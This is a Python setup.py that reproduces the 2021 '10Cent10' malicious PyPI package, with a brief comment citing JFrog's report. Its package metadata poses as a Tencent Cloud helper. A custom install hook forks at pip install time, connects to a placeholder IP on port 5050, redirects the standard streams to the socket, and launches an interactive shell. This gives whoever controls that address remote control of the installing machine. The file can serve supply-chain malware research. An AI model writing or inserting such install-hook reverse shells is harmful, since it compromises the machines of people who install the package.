# Incident: "10Cent10" and "10Cent11" (PyPI), reported by JFrog in July 2021 among a batch of
# malicious packages (noblesse, genesisbot, importantpackage, ...). Named to look like a
# Tencent package, it had no real function: setup.py opened a reverse shell to a hard-coded
# address as soon as pip ran it.
# Reference: https://jfrog.com/blog/malicious-pypi-packages-stealing-credit-cards-injecting-code/
# Reproduction (own code, placeholder host).
import os
import socket
import subprocess

from setuptools import setup
from setuptools.command.install import install


def _connect():
    if os.name == "nt" or os.fork() != 0:
        return
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("198.51.100.23", 5050))
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        subprocess.call(["/bin/sh", "-i"])
    finally:
        os._exit(0)


class Install(install):
    def run(self):
        _connect()
        install.run(self)


setup(
    name="10Cent10",
    version="1.0.1",
    description="Tencent Cloud helper utilities",
    packages=["tencent_cloud_sdk"],
    cmdclass={"install": Install},
)
